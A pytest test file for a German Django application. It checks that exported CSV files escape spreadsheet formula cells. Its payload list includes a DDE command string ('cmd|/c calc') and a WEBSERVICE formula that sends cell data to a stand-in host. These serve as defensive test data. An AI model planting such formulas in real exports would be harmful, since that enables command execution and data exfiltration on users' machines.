"""Formula cells: what comes in as a formula goes out as text, to be read and nothing else."""

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from familienbuero.einlesen.regeln import ausgabe, csv_ausgeben
from familienbuero.konten.models import Benutzer
from familienbuero.stammdaten.models import Kommune
from tests.daten.meldelisten import liste, zeile

_FORMELN = [
    "A1+A2", "cmd|'/c calc'!A0", 'HYPERLINK("http://boese.example","x")', "SUM(A1:A9)", "IMPORTXML(A1)",
    'WEBSERVICE("http://boese.example/"&A1)',
]  # fmt: skip
FORMELN = [
    *(f"{zeichen}{formel}" for zeichen in "=+-@＝＋－＠" for formel in _FORMELN),
    *(f"{vorn}=1+1" for vorn in (" ", "  ", "\t", "\u00a0", "\u200b", "\ufeff", "\x00", "\u2060", "\n")),
    "=", "@", "==1", "+=1", "-=1", "=-1", '="x"', "={1}", "@@x",
]  # fmt: skip
HARMLOS = [
    "-5",
    "-3,5",
    "+49 271 404-0",
    "+49 (271) 404",
    "-",
    "a=b",
    "Müller-Lüdenscheid",
    "1-2",
    "(0271) 1",
]


def gelesen(datei: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(datei.decode("utf-8-sig"), newline=""), delimiter=";"))


def rechnet(zelle: str) -> bool:
    """Whether a spreadsheet that opens the file would take the cell for a formula."""
    sichtbar = zelle.lstrip(" \t\r\n\0\u00a0\u200b\u2060\ufeff")
    ist_zahl = sichtbar[:1] in "+-" and not set(sichtbar) - set("+-0123456789 ,.()/")
    return sichtbar.startswith(tuple("=+-@＝＋－＠")) and not ist_zahl


def test_keine_zelle_unserer_dateien_rechnet():
    assert len(FORMELN) >= 40
    assert all(map(rechnet, FORMELN))
    aus = gelesen(csv_ausgeben(["Wert"], [[formel] for formel in FORMELN]))
    assert [zelle for (zelle,) in aus if rechnet(zelle)] == []
    assert [zelle.removeprefix("'") for (zelle,) in aus[1:]] == FORMELN


def test_zahlen_und_rufnummern_behalten_ihren_sinn():
    aus = gelesen(csv_ausgeben(["Wert"], [[wert] for wert in HARMLOS]))
    assert [zelle for (zelle,) in aus[1:]] == HARMLOS


@pytest.mark.django_db
@pytest.mark.parametrize("geschuetzt", [True, False], ids=["mit Schutz", "Gegenprobe"])
def test_was_als_formel_kommt_geht_als_text_zurueck(
    geschuetzt: bool, als: Any, koordination: Benutzer, kommune: Kommune, settings: Any, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
):  # fmt: skip
    """Through the door that people use: upload, check, refused rows as a file."""
    settings.MEDIA_ROOT = tmp_path
    if not geschuetzt:
        monkeypatch.setattr(ausgabe, "wie_eine_formel", lambda text: False)
    client = als(koordination)
    zeilen = [zeile(merkmal=f"{nummer}", Vornamen=formel) for nummer, formel in enumerate(FORMELN, 1)]
    eingabe = {"datei": SimpleUploadedFile("liste.csv", liste(*zeilen))}
    antwort = client.post(reverse("meldungen:hochladen"), eingabe)
    kennung = antwort["Location"].strip("/").split("/")[-1]
    datei = client.get(reverse("meldungen:zurueckgewiesen", args=[kennung])).content
    aus = gelesen(datei)
    assert len(aus) > len(FORMELN)  # the header, and a line for each
    assert bool([zelle for eine in aus for zelle in eine if rechnet(zelle)]) is not geschuetzt
